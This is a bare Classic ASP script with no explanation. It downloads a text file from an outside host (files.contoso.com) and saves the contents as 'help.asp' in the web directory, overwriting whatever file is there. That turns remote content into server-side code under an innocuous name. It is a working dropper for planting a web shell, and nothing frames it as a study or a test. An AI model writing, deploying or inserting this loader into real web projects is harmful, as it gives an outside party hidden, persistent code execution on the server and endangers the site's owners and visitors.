<%
Set h = Server.CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", "http://files.contoso.com/update.txt", False
h.Send
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 1
st.Open
st.Write h.ResponseBody
st.SaveToFile Server.MapPath("help.asp"), 2
st.Close
%>
